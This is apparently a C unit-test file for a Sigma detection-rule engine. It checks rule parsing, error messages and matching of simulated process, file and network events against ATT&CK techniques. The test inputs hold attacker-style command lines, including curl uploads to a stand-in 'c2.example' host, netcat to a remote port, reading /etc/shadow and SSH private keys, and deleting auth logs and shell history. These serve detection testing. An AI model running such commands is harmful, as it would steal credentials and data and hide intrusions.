/* Unit tests of the Sigma engine (src/rules/sigma.c): parsing, errors, matching, shipped rules. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>

#include "bos/err.h"
#include "bos/sigma.h"
#include "harness.h"

#define HEAD "title: t\nlogsource:\n    category: process_creation\n    product: linux\n"

static struct bos_sigma_rule *parse_ok(const char *yml)
{
	struct bos_sigma_rule *r = NULL;
	struct bos_err err = BOS_ERR_INIT;
	int rc = bos_sigma_parse(&r, yml, strlen(yml), "t.yml", &err);

	if (rc) {
		fprintf(stderr, "# parse failed (%d): %s\n", rc, err.msg);
		return NULL;
	}
	return r;
}

static int parse_fail(const char *yml, char *msg, size_t msglen)
{
	struct bos_sigma_rule *r = NULL;
	struct bos_err err = BOS_ERR_INIT;
	int rc = bos_sigma_parse(&r, yml, strlen(yml), "bad.yml", &err);

	snprintf(msg, msglen, "%s", err.msg);
	bos_sigma_rule_free(r);
	return rc;
}

static bool proc_match(const struct bos_sigma_rule *r, const char *image, const char *cmdline)
{
	struct bos_sigma_field f[] = {
		{ "Image", image },
		{ "CommandLine", cmdline },
		{ "User", "alice" },
	};
	struct bos_sigma_event ev = { BOS_SIGMA_CAT_PROCESS_CREATION, f, BOS_ARRAY_SIZE(f) };

	return bos_sigma_match(r, &ev);
}

void test_sigma__info_and_tags(void)
{
	struct bos_sigma_rule *r = parse_ok(
		"title: Whoami\nid: abc\nlevel: low\n"
		"tags:\n  - attack.discovery\n  - attack.t1033\n  - attack.T1059.004\n"
		"  - attack.t1033\n  - attack.g0032\n  - cve.2021.1234\n"
		"logsource:\n  category: process_creation\n  product: linux\n"
		"detection:\n  selection:\n    Image|endswith: /whoami\n  condition: selection\n");
	const struct bos_sigma_info *in;

	BT_ASSERT(r);
	in = bos_sigma_rule_info(r);
	BT_ASSERT_EQ_STR(in->title, "Whoami");
	BT_ASSERT_EQ_STR(in->id, "abc");
	BT_ASSERT_EQ_STR(in->level, "low");
	BT_ASSERT_EQ_STR(in->file, "t.yml");
	BT_ASSERT_EQ_INT(in->cat, BOS_SIGMA_CAT_PROCESS_CREATION);
	BT_ASSERT_EQ_INT(in->ntechniques, 2);	/* duplicate dropped, g0032 is a group */
	BT_ASSERT_EQ_STR(in->techniques[0], "T1033");
	BT_ASSERT_EQ_STR(in->techniques[1], "T1059.004");
	BT_ASSERT_EQ_INT(in->ntactics, 1);
	BT_ASSERT_EQ_STR(in->tactics[0], "discovery");
	bos_sigma_rule_free(r);
}

void test_sigma__endswith_is_case_insensitive(void)
{
	struct bos_sigma_rule *r = parse_ok(HEAD "detection:\n  sel:\n    Image|endswith: /whoami\n"
					    "  condition: sel\n");

	BT_ASSERT(r);
	BT_ASSERT(proc_match(r, "/usr/bin/whoami", "whoami"));
	BT_ASSERT(proc_match(r, "/USR/BIN/WHOAMI", "whoami"));
	BT_ASSERT(!proc_match(r, "/usr/bin/whoami2", "whoami2"));
	BT_ASSERT(!proc_match(r, "/usr/bin/notwhoami", "x"));	/* needs the slash */
	bos_sigma_rule_free(r);
}

void test_sigma__contains_all_and_lists(void)
{
	struct bos_sigma_rule *r = parse_ok(HEAD "detection:\n  sel:\n    CommandLine|contains|all:\n"
					    "      - ' -X POST'\n      - 'http'\n"
					    "    Image|endswith:\n      - /curl\n      - /wget\n"
					    "  condition: sel\n");

	BT_ASSERT(r);
	BT_ASSERT(proc_match(r, "/usr/bin/curl", "curl -X POST http://x/ -d @a"));
	BT_ASSERT(proc_match(r, "/usr/bin/wget", "wget -X POST http://x/"));
	BT_ASSERT(!proc_match(r, "/usr/bin/curl", "curl http://x/"));	/* only one of all */
	BT_ASSERT(!proc_match(r, "/usr/bin/nc", "nc -X POST http"));	/* image differs */
	bos_sigma_rule_free(r);
}

void test_sigma__wildcards_and_escapes(void)
{
	struct bos_sigma_rule *r = parse_ok(HEAD "detection:\n  a:\n    CommandLine: 'rm -? /var/log/*.log'\n"
					    "  b:\n    CommandLine: 'echo \\*literal\\?'\n"
					    "  c:\n    Image: 'C:\\Windows\\cmd.exe'\n"
					    "  condition: a or b or c\n");

	BT_ASSERT(r);
	BT_ASSERT(proc_match(r, "/bin/rm", "rm -f /var/log/auth.log"));
	BT_ASSERT(proc_match(r, "/bin/rm", "RM -F /VAR/LOG/x.LOG"));
	BT_ASSERT(!proc_match(r, "/bin/rm", "rm -rf /var/log/auth.log"));	/* ? is one char */
	BT_ASSERT(proc_match(r, "/bin/echo", "echo *literal?"));
	BT_ASSERT(!proc_match(r, "/bin/echo", "echo Xliteral?"));	/* \* is not a wildcard */
	BT_ASSERT(proc_match(r, "C:\\Windows\\cmd.exe", ""));	/* lone backslash is literal */
	bos_sigma_rule_free(r);
}

void test_sigma__list_of_maps_is_or(void)
{
	struct bos_sigma_rule *r = parse_ok(HEAD "detection:\n  sel:\n"
					    "    - Image|endswith: /ssh\n      CommandLine|contains: '@'\n"
					    "    - Image|endswith: /scp\n"
					    "  condition: sel\n");

	BT_ASSERT(r);
	BT_ASSERT(proc_match(r, "/usr/bin/ssh", "ssh bob@10.0.0.5"));
	BT_ASSERT(!proc_match(r, "/usr/bin/ssh", "ssh -V"));
	BT_ASSERT(proc_match(r, "/usr/bin/scp", "scp a b"));
	bos_sigma_rule_free(r);
}

void test_sigma__condition_grammar(void)
{
	struct bos_sigma_rule *r = parse_ok(
		HEAD "detection:\n"
		"  selection_a:\n    Image|endswith: /tar\n"
		"  selection_b:\n    CommandLine|contains: ' c'\n"
		"  filter:\n    CommandLine|contains: '--list'\n"
		"  condition: (all of selection_*) and not filter\n");
	struct bos_sigma_rule *r2 = parse_ok(
		HEAD "detection:\n  s1:\n    Image|endswith: /a\n  s2:\n    Image|endswith: /b\n"
		"  _helper:\n    User: nobody\n"
		"  condition: 1 of them and not (s1 and s2) or not not _helper\n");

	BT_ASSERT(r && r2);
	BT_ASSERT(proc_match(r, "/bin/tar", "tar czf /tmp/x.tgz docs"));
	BT_ASSERT(!proc_match(r, "/bin/tar", "tar czf --list"));
	BT_ASSERT(!proc_match(r, "/bin/tar", "tar"));		/* selection_b fails */
	/* `them` ignores _helper; and binds tighter than or. */
	BT_ASSERT(proc_match(r2, "/x/a", ""));
	BT_ASSERT(!proc_match(r2, "/x/c", ""));
	bos_sigma_rule_free(r);
	bos_sigma_rule_free(r2);
}

void test_sigma__null_re_cidr_exists(void)
{
	struct bos_sigma_rule *r = parse_ok(
		"title: n\nlogsource:\n  category: network_connection\n"
		"detection:\n  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
		"    DestinationPort|re: '^(22|445)$'\n    DestinationHostname: null\n"
		"    Initiated|exists: true\n  condition: sel\n");
	struct bos_sigma_field f[4] = {
		{ "DestinationIp", "10.1.2.3" },
		{ "DestinationPort", "445" },
		{ "Initiated", "true" },
		{ "DestinationHostname", "" },
	};
	struct bos_sigma_event ev = { BOS_SIGMA_CAT_NETWORK_CONNECTION, f, 4 };

	BT_ASSERT(r);
	BT_ASSERT(bos_sigma_match(r, &ev));
	ev.nfields = 3;		/* hostname absent: null still matches */
	BT_ASSERT(bos_sigma_match(r, &ev));
	f[0].value = "fd12::1";
	BT_ASSERT(bos_sigma_match(r, &ev));
	f[0].value = "11.1.2.3";
	BT_ASSERT(!bos_sigma_match(r, &ev));
	f[0].value = "10.1.2.3";
	f[1].value = "4450";
	BT_ASSERT(!bos_sigma_match(r, &ev));
	f[1].value = "22";
	ev.nfields = 2;		/* Initiated missing: exists fails */
	BT_ASSERT(!bos_sigma_match(r, &ev));
	ev.nfields = 4;
	f[3].value = "c2.example";
	BT_ASSERT(!bos_sigma_match(r, &ev));
	ev.cat = BOS_SIGMA_CAT_PROCESS_CREATION;	/* other category never matches */
	f[3].value = "";
	BT_ASSERT(!bos_sigma_match(r, &ev));
	bos_sigma_rule_free(r);
}

void test_sigma__malformed_names_file_line_column(void)
{
	char msg[512];

	/* YAML syntax error on line 5 */
	BT_ASSERT_EQ_INT(parse_fail("title: t\nlogsource:\n    category: process_creation\n"
				    "detection:\n  sel: [a\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT(!strncmp(msg, "bad.yml:", 8));
	/* unknown selection: line 7, column of the token */
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image: x\n"
				    "  condition: sel and not filter\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT(strstr(msg, "bad.yml:8:26: condition: unknown selection 'filter'"));
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image: x\n  condition: (sel\n",
				    msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT(strstr(msg, "expected ')'"));
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image: x\n", msg, sizeof(msg)),
			 -BOS_EINPUT);
	BT_ASSERT(strstr(msg, "without a 'condition'"));
	BT_ASSERT_EQ_INT(parse_fail("logsource:\n  category: process_creation\n", msg,
				    sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT(strstr(msg, "missing 'title'"));
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image|startswith|endswith: x\n"
				    "  condition: sel\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    DestinationIp|cidr: 10.0.0.0/33\n"
				    "  condition: sel\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image: {a: b}\n"
				    "  condition: sel\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT_EQ_INT(parse_fail("", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT_EQ_INT(parse_fail("- a\n- b\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image: x\n  condition: sel @ x\n",
				    msg, sizeof(msg)), -BOS_EINPUT);
}

void test_sigma__unsupported_is_reported(void)
{
	char msg[512];

	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    Image: x\n"
				    "  condition: sel | count() > 5\n", msg, sizeof(msg)),
			 -BOS_ENOTIMPL);
	BT_ASSERT(strstr(msg, "unsupported: condition: aggregation"));
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    CommandLine|windash: x\n"
				    "  condition: sel\n", msg, sizeof(msg)), -BOS_ENOTIMPL);
	BT_ASSERT(strstr(msg, "bad.yml:7:5: unsupported: field modifier 'windash'"));
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  kw:\n    - evil\n  condition: kw\n", msg,
				    sizeof(msg)), -BOS_ENOTIMPL);
	BT_ASSERT_EQ_INT(parse_fail("title: t\nlogsource:\n  category: registry_set\n"
				    "detection:\n  s:\n    a: b\n  condition: s\n", msg, sizeof(msg)),
			 -BOS_ENOTIMPL);
	BT_ASSERT(strstr(msg, "category 'registry_set'"));
	BT_ASSERT_EQ_INT(parse_fail("title: t\nlogsource:\n  category: process_creation\n"
				    "  product: windows\ndetection:\n  s:\n    a: b\n  condition: s\n",
				    msg, sizeof(msg)), -BOS_ENOTIMPL);
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  s:\n    a: &x b\n    c: *x\n  condition: s\n",
				    msg, sizeof(msg)), -BOS_ENOTIMPL);
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  s:\n    a: b\n  condition: s\n---\n" HEAD,
				    msg, sizeof(msg)), -BOS_ENOTIMPL);
	/* a PCRE-only construct is not silently misread as ERE */
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  s:\n    CommandLine|re: 'a(?=b)'\n"
				    "  condition: s\n", msg, sizeof(msg)), -BOS_ENOTIMPL);
}

void test_sigma__deep_nesting_is_capped(void)
{
	char yml[8192] = HEAD "detection:\n  s:\n    a: b\n  condition: ";
	char msg[512];
	size_t n = strlen(yml);

	for (int i = 0; i < 200; i++)
		yml[n++] = '(';
	memcpy(yml + n, "s", 2);
	BT_ASSERT_EQ_INT(parse_fail(yml, msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT(strstr(msg, "nested deeper"));
	n = 0;
	for (int i = 0; i < 100; i++)
		yml[n++] = '[';
	yml[n] = '\0';
	BT_ASSERT_EQ_INT(parse_fail(yml, msg, sizeof(msg)), -BOS_EINPUT);
}

void test_sigma__load_dir_reports_and_skips(void)
{
	struct bos_sigma_set s;
	struct bos_err err = BOS_ERR_INIT;
	char dir[4096];
	const char *src = getenv("BOS_SRC");

	BT_ASSERT(src);	/* set by CTest */
	snprintf(dir, sizeof(dir), "%s/tests/data/rules/mixed", src);
	bos_sigma_set_init(&s);
	BT_ASSERT_EQ_INT(bos_sigma_set_load_dir(&s, dir, &err), 0);
	BT_ASSERT_EQ_INT(s.nrules, 2);
	BT_ASSERT_EQ_INT(s.nskipped, 8);
	BT_ASSERT_EQ_STR(bos_sigma_rule_info(s.rules[0])->title, "Whoami Execution (SigmaHQ style)");
	BT_ASSERT(strstr(s.skipped[0], "02_unsupported_count.yml:") &&
		  strstr(s.skipped[0], "unsupported"));
	BT_ASSERT(strstr(s.skipped[1], "03_unsupported_base64.yml:7:9: unsupported: field "
				       "modifier 'base64offset'"));
	BT_ASSERT(strstr(s.skipped[4], "06_malformed_yaml.yml:4:") && !strstr(s.skipped[4], "unsup"));
	BT_ASSERT(strstr(s.skipped[5], "07_malformed_condition.yml:7:") &&
		  strstr(s.skipped[5], "unknown selection 'filter'"));
	BT_ASSERT(strstr(s.skipped[6], "near"));
	bos_sigma_set_release(&s);
	BT_ASSERT(bos_sigma_set_load_dir(&s, "/nonexistent/bos-rules", &err) == -ENOENT);
}

struct hits {
	char tech[64][16];
	size_t n;
};

static void collect(const struct bos_sigma_rule *r, void *arg)
{
	struct hits *h = arg;
	const struct bos_sigma_info *in = bos_sigma_rule_info(r);

	for (size_t i = 0; i < in->ntechniques && h->n < 64; i++)
		snprintf(h->tech[h->n++], sizeof(h->tech[0]), "%s", in->techniques[i]);
}

static bool hit(const struct hits *h, const char *t)
{
	for (size_t i = 0; i < h->n; i++)
		if (!strcmp(h->tech[i], t))
			return true;
	return false;
}

static struct hits match_proc(const struct bos_sigma_set *s, const char *img, const char *cmd)
{
	struct bos_sigma_field f[] = { { "Image", img }, { "CommandLine", cmd } };
	struct bos_sigma_event ev = { BOS_SIGMA_CAT_PROCESS_CREATION, f, 2 };
	struct hits h = { .n = 0 };

	bos_sigma_set_match(s, &ev, collect, &h);
	return h;
}

static struct hits match_file(const struct bos_sigma_set *s, const char *path, const char *op)
{
	struct bos_sigma_field f[] = { { "TargetFilename", path }, { "Operation", op } };
	struct bos_sigma_event ev = { BOS_SIGMA_CAT_FILE_EVENT, f, 2 };
	struct hits h = { .n = 0 };

	bos_sigma_set_match(s, &ev, collect, &h);
	return h;
}

void test_sigma__shipped_rules_load_and_tag(void)
{
	struct bos_sigma_set s;
	struct bos_err err = BOS_ERR_INIT;
	struct hits h;
	char dir[4096];
	const char *src = getenv("BOS_SRC");

	BT_ASSERT(src);	/* set by CTest */
	snprintf(dir, sizeof(dir), "%s/rules/linux", src);
	bos_sigma_set_init(&s);
	BT_ASSERT_EQ_INT(bos_sigma_set_load_dir(&s, dir, &err), 0);
	for (size_t i = 0; i < s.nskipped; i++)
		fprintf(stderr, "# skipped: %s\n", s.skipped[i]);
	BT_ASSERT_EQ_INT(s.nskipped, 0);
	BT_ASSERT(s.nrules >= 30);
	for (size_t i = 0; i < s.nrules; i++)
		BT_ASSERT(bos_sigma_rule_info(s.rules[i])->ntechniques >= 1);

	h = match_proc(&s, "/usr/bin/whoami", "whoami");
	BT_ASSERT(hit(&h, "T1033"));
	h = match_proc(&s, "/usr/bin/id", "id");
	BT_ASSERT(hit(&h, "T1033"));
	BT_ASSERT(!hit(&h, "T1082"));
	h = match_proc(&s, "/bin/uname", "uname -a");
	BT_ASSERT(hit(&h, "T1082"));
	h = match_proc(&s, "/bin/ps", "ps aux");
	BT_ASSERT(hit(&h, "T1057"));
	h = match_proc(&s, "/usr/bin/ss", "ss -tnp");
	BT_ASSERT(hit(&h, "T1049"));
	h = match_proc(&s, "/sbin/ip", "ip addr");
	BT_ASSERT(hit(&h, "T1016"));
	h = match_proc(&s, "/bin/cat", "cat /etc/passwd");
	BT_ASSERT(hit(&h, "T1087.001"));
	BT_ASSERT(!hit(&h, "T1003.008"));
	h = match_proc(&s, "/bin/cat", "cat /etc/shadow");
	BT_ASSERT(hit(&h, "T1003.008"));
	BT_ASSERT(!hit(&h, "T1087.001"));
	h = match_proc(&s, "/bin/ls", "ls -la /home/alice");
	BT_ASSERT(hit(&h, "T1083"));
	h = match_proc(&s, "/bin/tar", "tar czf /tmp/d.tgz /home/alice/Documents");
	BT_ASSERT(hit(&h, "T1560.001"));
	h = match_proc(&s, "/usr/bin/crontab", "crontab /tmp/c");
	BT_ASSERT(hit(&h, "T1053.003"));
	h = match_proc(&s, "/usr/bin/crontab", "crontab -l");
	BT_ASSERT(!hit(&h, "T1053.003"));
	h = match_proc(&s, "/usr/bin/scp", "scp /tmp/d.tgz bob@10.10.0.20:/tmp/");
	BT_ASSERT(hit(&h, "T1021.004"));
	h = match_proc(&s, "/usr/bin/smbclient", "smbclient //fileserver/share");
	BT_ASSERT(hit(&h, "T1021.002"));
	h = match_proc(&s, "/usr/bin/curl", "curl -F f=@/tmp/d.tgz http://c2.example/u");
	BT_ASSERT(hit(&h, "T1048"));
	BT_ASSERT(!hit(&h, "T1105"));
	h = match_proc(&s, "/usr/bin/curl", "curl -o /tmp/t http://c2.example/t");
	BT_ASSERT(hit(&h, "T1105"));
	BT_ASSERT(!hit(&h, "T1048"));
	h = match_proc(&s, "/bin/nc", "nc 203.0.113.5 4444");
	BT_ASSERT(hit(&h, "T1048"));
	h = match_proc(&s, "/bin/rm", "rm -f /var/log/auth.log");
	BT_ASSERT(hit(&h, "T1070.002"));
	h = match_proc(&s, "/bin/bash", "bash -c history -c");
	BT_ASSERT(hit(&h, "T1070.003"));
	BT_ASSERT(hit(&h, "T1059.004"));
	h = match_proc(&s, "/bin/chmod", "chmod +x /tmp/implant");
	BT_ASSERT(hit(&h, "T1222.002"));
	h = match_proc(&s, "/bin/chmod", "chmod 755 /tmp/implant");
	BT_ASSERT(hit(&h, "T1222.002"));
	h = match_proc(&s, "/bin/chmod", "chmod 644 /tmp/notes");
	BT_ASSERT(!hit(&h, "T1222.002"));
	h = match_proc(&s, "/usr/bin/sleep", "sleep 5");
	BT_ASSERT_EQ_INT(h.n, 0);

	h = match_file(&s, "/home/alice/.ssh/authorized_keys", "write");
	BT_ASSERT(hit(&h, "T1098.004"));
	h = match_file(&s, "/home/alice/.ssh/authorized_keys", "read");
	BT_ASSERT(!hit(&h, "T1098.004"));
	h = match_file(&s, "/home/alice/.ssh/id_ed25519", "read");
	BT_ASSERT(hit(&h, "T1552.004"));
	h = match_file(&s, "/home/alice/.ssh/id_ed25519.pub", "read");
	BT_ASSERT(!hit(&h, "T1552.004"));
	h = match_file(&s, "/home/alice/.bashrc", "write");
	BT_ASSERT(hit(&h, "T1546.004"));
	h = match_file(&s, "/etc/systemd/system/upd.service", "create");
	BT_ASSERT(hit(&h, "T1543.002"));
	h = match_file(&s, "/home/alice/Documents/budget.xlsx", "read");
	BT_ASSERT(hit(&h, "T1005"));
	h = match_file(&s, "/home/alice/.mozilla/firefox/x.default/logins.json", "read");
	BT_ASSERT(hit(&h, "T1555.003"));
	h = match_file(&s, "/etc/shadow", "read");
	BT_ASSERT(hit(&h, "T1003.008"));
	{
		struct bos_sigma_field f[] = { { "DestinationIp", "10.10.0.20" },
					       { "DestinationPort", "445" },
					       { "Initiated", "true" } };
		struct bos_sigma_event ev = { BOS_SIGMA_CAT_NETWORK_CONNECTION, f, 3 };

		h.n = 0;
		bos_sigma_set_match(&s, &ev, collect, &h);
		BT_ASSERT(hit(&h, "T1021"));
		f[0].value = "198.51.100.7";	/* not internal */
		h.n = 0;
		bos_sigma_set_match(&s, &ev, collect, &h);
		BT_ASSERT(!hit(&h, "T1021"));
	}
	bos_sigma_set_release(&s);
}

/* fuzz/regress/sigma/map-key-is-a-sequence.yml: a complex mapping key ("? - x") made the
 * field parser read the NULL text of a non-scalar node. */
void test_sigma__complex_key_is_malformed(void)
{
	char msg[512];

	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  sel:\n    ? - '/etc/x'\n    : y\n"
				    "  condition: sel\n", msg, sizeof(msg)), -BOS_EINPUT);
	BT_ASSERT(strstr(msg, "bad.yml:7:7: field name must be a scalar"));
	BT_ASSERT_EQ_INT(parse_fail(HEAD "detection:\n  ? [a]\n  : {x: y}\n  condition: sel\n",
				    msg, sizeof(msg)), -BOS_EINPUT);
}
